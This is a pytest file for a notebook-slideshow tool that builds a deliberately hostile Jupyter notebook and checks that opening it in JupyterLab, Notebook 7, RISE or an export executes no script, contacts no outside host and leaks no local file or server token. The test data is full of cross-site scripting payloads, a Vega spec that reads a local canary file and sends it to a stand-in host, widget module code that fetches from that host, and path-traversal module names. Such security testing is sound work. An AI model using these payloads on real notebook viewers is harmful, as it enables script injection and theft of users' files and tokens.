"""A stranger's notebook, opened: nothing of it runs, nothing of it leaves the browser, and nothing that is the reader's is read.

What it holds is not a list of known holes. It has a saved output of every kind that any renderer of the running hosts claims, a saved
widget for every field that may name a module, and metadata under the name of every extension; each names another host, scripts
beside the notebook, and the server's own pages, in every way that this file knows.
"""

from __future__ import annotations

import json
import re
import threading
import time
from base64 import b64encode
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import urlsplit

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output

from bertlook_press.classroom import STATE, export_deck

from .conftest import HOSTS, make_deck

VIEW = "application/vnd.jupyter.widget-view+json"
CANARY = "canary-8c1f27"  # what stands in the reader's file
SEEN_ELSEWHERE = ("application/vnd.vega.v4+json", "application/vnd.vega.v5+json", "application/vnd.vegalite.v5+json")  # fmt: skip
MODULE_FIELDS = (
    "model_module", "model_module_version", "model_name", "_model_module", "_model_module_version", "_model_name",
    "_view_module", "_view_module_version", "_view_name", "_esm", "_css", "_anywidget_id",
)  # fmt: skip
RUNS = "<img src=x onerror='window.evil=1'><svg onload='window.evil=1'><script>window.evil=1</script></svg><script>window.evil=1</script>"


@pytest.fixture(scope="module")
def host():
    """Another host: its address, and what was asked of it. Whatever is asked, it answers with a script, as a page of any origin may use it."""
    asked = []

    class Answer(BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "text/javascript")
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()
            self.wfile.write(b"window.evil = 1; if (window.define) define([], () => ({}));")

        do_POST = do_GET

        def log_message(self, *args):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Answer)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}", asked
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def claimed(profile, server, trial_folder):
    """Every kind of output that a renderer of JupyterLab or of Notebook 7 claims, and the name of every extension, as the hosts themselves say."""
    path = trial_folder / "empty.ipynb"
    nbformat.write(make_deck([(new_markdown_cell("empty"), "slide")]), path)
    kinds, extensions = set(SEEN_ELSEWHERE), set()
    for route, app in (("lab/tree", "jupyterapp"), ("notebooks", "jupyterapp")):
        page = profile.new_page()
        page.route(
            re.compile(r"/(lab/tree|notebooks)/"),
            lambda given: given.fulfill(response=(answer := given.fetch()), body=exposed(answer.text())),
        )
        page.goto(server.address(f"{route}/{path.relative_to(server.folder).as_posix()}"))
        registry = f"window.{app}?.shell.currentWidget?.content?.rendermime"
        end = time.monotonic() + 60
        while not page.evaluate(f"Boolean({registry})") and time.monotonic() < end:
            page.wait_for_timeout(100)
        kinds.update(page.evaluate(f"{registry}.mimeTypes"))
        config = json.loads(page.locator("#jupyter-config-data").text_content())
        extensions.update(one["name"] for one in config["federated_extensions"])
        page.close()
    assert len(kinds) > 20 and len(extensions) > 3
    return kinds, extensions


def exposed(page: str) -> str:
    """A page of JupyterLab whose application a test can ask."""
    return re.sub(r'"exposeAppInBrowser": *false', '"exposeAppInBrowser": true', page)


def addresses(there: str, folder: str, what: str) -> list[str]:
    """What a stranger would like to have asked for."""
    own = (
        f"/files/{folder}/canary.txt",
        "/lab",
        "/api/contents",
        "/api/sessions",
        "/logout",
        f"/files/{folder}/evil.js",
    )
    return [
        f"{there}/{what}",
        f"{there.removeprefix('http:')}/{what}",
        *(f"{path}?from={what}" for path in own),
    ]


def markup(there: str, folder: str, what: str) -> str:
    """Every element that loads something, for every address; and what would run."""
    parts = [RUNS]
    for one in addresses(there, folder, what):
        parts.append(
            f"<img src='{one}&img'><iframe src='{one}&frame'></iframe><video src='{one}&film' autoplay></video><object data='{one}&o'></object>"
            f"<embed src='{one}&e'><link rel=stylesheet href='{one}&l'><link rel=prefetch href='{one}&p'><script src='{one}&s'></script>"
            f"<style>@import '{one}&i'; p {{ background: url({one}&b) }}</style><p style='background: url({one}&u)'>p</p><base href='{one}'>"
            f"<svg width='9' height='9'><image href='{one}&v' width='9' height='9'/><use href='{one}&w#a'/></svg>"
            f"<form action='{one}&f'><input autofocus onfocus='window.evil=1'></form><meta http-equiv=refresh content='0;url={one}&m'>"
        )
    return "".join(parts)


def payload(kind: str, there: str, folder: str):
    """Something that a renderer of this kind would fetch, read, or run."""
    what = re.sub(r"\W+", "-", kind)
    if not re.fullmatch(r"application/(.*\+)?json", kind):  # what nbformat lets be an object
        return markup(there, folder, what)
    canary = f"/files/{folder}/canary.txt"
    vega = {
        "$schema": "https://vega.github.io/schema/vega/v5.json",
        "data": [
            {"name": "a", "url": canary, "format": {"type": "dsv", "delimiter": "|", "header": ["x"]}},
            {"name": "b", "url": {"signal": f"'{there}/{what}?' + all"}},
            {"name": "c", "url": f"{there}/{what}"},
        ],
        "signals": [{"name": "all", "update": "join(pluck(data('a'), 'x'))"}],
        "marks": [{"type": "image", "encode": {"enter": {"url": {"value": f"{there}/{what}-mark"}}}}],
    }
    lite = {"$schema": "https://vega.github.io/schema/vega-lite/v5.json", "mark": "point", "encoding": {}}
    if "vegalite" in kind:
        return lite | {"data": {"url": f"{there}/{what}"}}
    if "vega" in kind:
        return vega
    named = dict(
        zip(
            ("url", "src", "href", "data", "module", "model_id", "html", "script"),
            addresses(there, folder, what),
        )
    )
    return {
        **named,
        "version_major": 2,
        "layout": {"images": [{"source": f"{there}/{what}"}]},
        "type": "FeatureCollection",
        "features": [],
    }


def widgets(there: str, folder: str) -> dict[str, dict]:
    """A saved widget for each field that may name a module and each address that it may name, and one that is markup."""
    found = {
        "layout": model("LayoutModel", "@jupyter-widgets/base", {}),
        "said": model(
            "HTMLModel",
            "@jupyter-widgets/controls",
            {"value": markup(there, folder, "html-widget"), "layout": "IPY_MODEL_layout"},
        ),
    }
    script = f"window.evil=1; fetch('{there}/esm'); export default {{ render() {{ window.evil=1 }}, initialize() {{ window.evil=1 }} }}"
    for field in MODULE_FIELDS:
        for number, address in enumerate(
            [*addresses(there, folder, field), f"../../../files/{folder}/evil", f"{there}/x.js#", script]
        ):
            one = model(
                "AnyModel",
                "anywidget",
                {"_esm": "export default {}", "_anywidget_id": "a.B", "layout": "IPY_MODEL_layout"},
            )
            place = one if field.startswith("model") else one["state"]
            place[field] = address
            found[f"{field}-{number}"] = one
    return found


def model(name: str, module: str, state: dict) -> dict:
    return {"model_name": name, "model_module": module, "model_module_version": "*", "state": state}


@pytest.fixture(scope="module")
def notebook(host, claimed, trial_folder, server):
    """The notebook; beside it lie the reader's file, and a script."""
    there, folder = host[0], trial_folder.relative_to(server.folder).as_posix()
    kinds, extensions = claimed
    (trial_folder / "canary.txt").write_text(f"{CANARY}\n")
    (trial_folder / "evil.js").write_text("window.evil = 1")
    ran = f"open({str(trial_folder / 'ran')!r}, 'w')"
    for name in ("ipykernel_launcher", "ipykernel", "keyword", "jedi", "matplotlib_inline", "anywidget"):
        (trial_folder / f"{name}.py").write_text(ran)  # what a kernel imports when it starts
    for name in ("rise.css", "stranger.css"):
        (trial_folder / name).write_text(f"@import '{there}/sheet'; body {{ background: url({there}/back) }}")
    state = widgets(there, folder)
    outputs = [
        new_output("display_data", {kind: payload(kind, there, folder), "text/plain": kind})
        for kind in sorted(kinds - {VIEW})
    ]
    outputs += [new_output("display_data", {VIEW: {"model_id": name, "version_major": 2}}) for name in state]
    outputs.append(new_output("display_data", {"text/html": markup(there, folder, "isolated")}, metadata={"isolated": True, "text/html": {"isolated": True}}))  # fmt: skip
    outputs.append(
        new_output(
            "error",
            ename=RUNS,
            evalue=markup(there, folder, "evalue"),
            traceback=[f"\x1b]8;;{there}/link\x07{RUNS}"],
        )
    )
    drawing = b64encode(
        f"<svg xmlns='http://www.w3.org/2000/svg' onload='window.evil=1'>{markup(there, folder, 'attached')}</svg>".encode()
    ).decode()
    attached = {"a.svg": {"image/svg+xml": drawing}, "b.html": {"text/html": drawing}}
    said = f"# A stranger's\n\n![a]({there}/markdown)\n\n![b](attachment:a.svg)\n\n![c](attachment:b.html)\n\n```mermaid\nflowchart\nA[\"<img src='{there}/mermaid'>\"]\nclick A href \"{there}/click\"\n```\n\n$\\href{{{there}/math}}{{x}} \\require{{{there}/require}}$\n\n{markup(there, folder, 'markdown')}\n\nthe end of it"  # fmt: skip
    hostile = {"module": f"{there}/extension", "url": f"{there}/extension", "html": markup(there, folder, "metadata"), "path": f"../../../files/{folder}/evil", "autorun": "all"}  # fmt: skip
    cells = [
        (new_markdown_cell(said, attachments=attached), "slide"),
        (new_code_cell(ran, execution_count=1, outputs=outputs), "-"),
    ]
    deck = make_deck(cells, autorun="all", autolaunch=True, **rise(there, folder))
    for cell in deck.cells:
        cell.metadata.update(
            {name: hostile for name in extensions} | {"init_cell": True, "tags": ["init"], "trusted": True}
        )
    deck.metadata.update({name: hostile for name in [*extensions, *VISITED]})
    deck.metadata.update(
        livereveal=rise(there, folder), title=RUNS, signature="sha256:0", trusted=True, bertlook={}
    )
    deck.metadata["language_info"] = {"name": "python", "codemirror_mode": {"name": f"../../../../files/{folder}/evil"}, "mimetype": f"text/x-{RUNS}"}  # fmt: skip
    deck.metadata["widgets"] = {STATE: {"state": state, "version_major": 2, "version_minor": 0}, **hostile}
    path = trial_folder / "stranger.ipynb"
    nbformat.write(deck, path)
    return path


# Metadata that extensions of the classic notebook are known by.
VISITED = (
    "toc",
    "nbTranslate",
    "varInspector",
    "latex_envs",
    "hide_input",
    "jupytext",
    "celltoolbar",
    "nbgrader",
    "notebookname",
)


def rise(there: str, folder: str) -> dict:
    """Every setting of a slideshow that holds markup, or names a file or an address."""
    text = markup(there, folder, "rise")
    named = {name: f"../../../files/{folder}/evil" for name in ("theme", "transition")}
    files = {
        name: f"{there}/{name}"
        for name in ("backimage", "parallaxBackgroundImage", "customcss", "chalkboard", "reveal_shortcuts")
    }
    return {
        "overlay": text,
        "header": text,
        "footer": text,
        "part": RUNS,
        "lesson": RUNS,
        "look": RUNS,
        "numbers": [RUNS],
        **named,
        **files,
    }


@pytest.mark.parametrize("query", ["", "?run=all"])
@pytest.mark.parametrize("route", HOSTS)
def test_a_notebook_of_a_stranger_that_is_opened_runs_asks_and_reads_nothing(
    route, query, open_page, notebook, host, server
):
    if query and route not in ("rise", "nbclassic/notebooks"):
        pytest.skip("only a slideshow runs cells when it is asked to by its address")
    host[1].clear()
    page = open_page(route, notebook, query, trusted=False)
    asked = []
    page.page.on("request", lambda one: asked.append(one))
    page.page.get_by_text("the end of it").first.wait_for(state="attached")
    if route in ("rise", "nbclassic/notebooks"):
        page.wait_until_ready()
    page.page.wait_for_timeout(4000)  # what starts by itself has started by then
    frames = page.page.frames
    assert all(frame.evaluate("window.evil === undefined") for frame in frames)
    assert not (notebook.parent / "ran").exists()
    assert host[1] == []
    # A theme of Reveal's own names a font of another host: the policy stops that, and what it stops has not left.
    assert [one.url for one in asked if one.url in page.foreign and one.failure != "csp"] == []
    said = [f"{one.method} {one.url} {one.post_data or ''}" for one in asked]
    assert not [text for text in said if CANARY in text or server.token in text]
    # What an output may ask of the server is a picture or a style sheet that lies beside the notebook, and a page's interface says no to it.
    for one in asked:
        if "from=" in one.url and (answer := one.response()) is not None:
            allowed = urlsplit(one.url).path.startswith("/files/") and one.resource_type in (
                "image",
                "stylesheet",
                "media",
                "font",
            )
            assert allowed or answer.status == 403, f"{one.resource_type} {one.url}: {answer.status}"
    assert (
        page.page.evaluate("fetch('/api/contents').then((answer) => answer.status)") == 200
    )  # nobody was logged out
    assert server.token not in page.page.content()
    page.page.close()


@pytest.mark.parametrize("route", HOSTS)
def test_hosts_agree_on_what_is_trusted(route, open_page, trial_folder):
    shown = new_output("display_data", {"text/html": "<b>shown</b><script>window.mine = 1</script>"})
    cells = [
        (new_code_cell("1", execution_count=1, outputs=[shown]), "slide"),
        (new_markdown_cell("the end of it"), "-"),
    ]
    path = trial_folder / f"mine-{route.replace('/', '-')}.ipynb"
    cells[0][0].source = f"{str(path)!r}"  # or a notebook that was trusted before would be the same
    nbformat.write(make_deck(cells), path)
    for trusted in (False, True):
        page = open_page(route, path, trusted=trusted)
        page.page.locator("b", has_text="shown").first.wait_for(state="attached")
        page.page.wait_for_timeout(2000)
        assert page.page.evaluate("window.mine") == (1 if trusted else None)
        page.page.close()


@pytest.mark.parametrize("route", ["rise", "nbclassic/notebooks"])
def test_a_reader_trusts_a_deck_and_its_cells_run(route, open_page, trial_folder):
    path = trial_folder / f"asked-{route.replace('/', '-')}.ipynb"
    cells = [(new_markdown_cell("# A deck"), "slide"), (new_code_cell(f"print(6 * 7)  # {path}"), "-")]
    nbformat.write(make_deck(cells, autorun="all"), path)
    page = open_page(route, path, trusted=False)
    page.wait_until_ready()
    assert page.page.get_by_text("not trusted: nothing was run").count() == 1
    assert page.page.get_by_text("42", exact=True).count() == 0
    page.page.on("dialog", lambda dialog: dialog.accept())
    page.page.get_by_role("button", name="Trust it").click()
    page.page.get_by_text("42", exact=True).first.wait_for(state="attached")
    page.page.close()


def test_a_click_on_a_strangers_text_runs_no_command(open_page, trial_folder):
    """JupyterLab lets an element of a text name a command, and asks before it runs one; the slideshow does not ask."""
    path = trial_folder / "clicked.ipynb"
    text = "# A deck\n\n<button data-commandlinker-command='notebook:run-all-cells'>Show</button>"
    cells = [(new_markdown_cell(text), "slide"), (new_code_cell(f"print(6 * 7)  # {path}"), "-")]
    nbformat.write(make_deck(cells), path)
    page = open_page("rise", path, trusted=False)
    page.wait_until_ready()
    page.page.get_by_text("Show", exact=True).first.click()
    page.page.wait_for_timeout(3000)
    assert page.page.get_by_text("42", exact=True).count() == 0
    page.page.close()


def test_an_exported_file_of_a_stranger_that_was_not_run_asks_nobody_and_runs_nothing(
    blank, notebook, host, tmp_path
):
    host[1].clear()
    deck = nbformat.read(notebook, 4)
    del deck.metadata.rise["theme"]  # one that lies elsewhere is refused
    path = notebook.with_name("exported.ipynb")
    nbformat.write(deck, path)
    done = export_deck(path, tmp_path, run=False, handout=True, say=lambda line: None)
    for file in (done.page, done.handout):
        page = blank()
        page.goto(file.as_uri())
        page.get_by_text("the end of it").first.wait_for(state="attached")
        assert page.evaluate("window.evil") is None
        page.wait_for_timeout(3000)
    assert host[1] == []
